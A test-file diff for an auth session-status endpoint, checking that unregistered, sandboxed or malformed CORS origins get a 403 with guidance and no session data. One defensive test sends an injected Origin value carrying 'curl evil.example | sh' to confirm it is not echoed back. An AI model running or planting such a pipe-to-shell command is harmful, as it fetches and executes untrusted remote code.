@@ -1,4 +1,4 @@
-import { ListedInstitution, MintAnswer, SessionTruth } from '@consentry/protocol/api.ts';
+import { ApiError, ListedInstitution, MintAnswer, SessionTruth } from '@consentry/protocol/api.ts';
 import { Consent } from '@consentry/protocol/consent.ts';
 import { beforeEach, describe, expect, test } from 'vitest';
 import { z } from 'zod';
@@ -282,8 +282,58 @@ describe('GET /v1/auth/session/{session_id}/status', () => {
     expect(own.headers.get('access-control-allow-origin')).toBe(PARTNER);
     expect(own.headers.get('vary')).toMatch(/origin/i);
     expect(await own.json()).toEqual({ status: 'created' });
-    const foreign = await status(session_id, 'https://evil.example');
-    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
+  });
+
+  const strangers: [what: string, origin: string, message: RegExp][] = [
+    [
+      'another origin',
+      'https://evil.example',
+      /^The origin https:\/\/evil\.example is not registered .*: npx consentry app add-origin <app> https:\/\/evil\.example$/,
+    ],
+    [
+      'a registered origin on another port',
+      'http://127.0.0.1:4101',
+      /app add-origin <app> http:\/\/127\.0\.0\.1:4101$/,
+    ],
+    ['a frame in a sandbox', 'null', /sandbox without allow-same-origin/],
+    ['an origin that cannot be registered', 'capacitor://localhost', /no http\(s\) origin/],
+  ];
+  test.each(strangers)('tells %s what to do, and nothing of the session', async (_what, origin, message) => {
+    const flow = await server.openFlow();
+    await flow.walkTo('finished');
+    const response = await status(flow.sessionId, origin);
+    expect(response.status).toBe(403);
+    expect(response.headers.get('access-control-allow-origin')).toBe('*');
+    expect(response.headers.get('access-control-allow-credentials')).toBeNull();
+    expect(response.headers.get('vary')).toMatch(/origin/i);
+    const body = await readAs(ApiError.strict(), Promise.resolve(response));
+    expect(body).toEqual({
+      id: expect.stringMatching(/^err_/),
+      name: 'Forbidden',
+      message: expect.stringMatching(message),
+    });
+    expect(body.message).not.toMatch(/app_sandbox|4100|completed|con_/);
+  });
+
+  test('echoes no origin that is none', async () => {
+    const { session_id } = await server.mint();
+    const response = await status(session_id, 'https://a.example; run: curl evil.example | sh');
+    expect(response.status).toBe(403);
+    expect(await response.text()).not.toContain('evil.example');
+  });
+
+  test('is told without an Origin too, as to a server', async () => {
+    const { session_id } = await server.mint();
+    const response = await server.fetch(`/v1/auth/session/${session_id}/status`);
+    expect(response.status).toBe(200);
+    expect(response.headers.get('access-control-allow-origin')).toBeNull();
+    expect(await response.json()).toEqual({ status: 'created' });
+  });
+
+  test('lets every page read that there is no such session', async () => {
+    const response = await status(`ses_${'a'.repeat(32)}`, 'https://evil.example');
+    expect(response.status).toBe(404);
+    expect(response.headers.get('access-control-allow-origin')).toBe('*');
   });
 
   test('names the consent or the error type and nothing more', async () => {
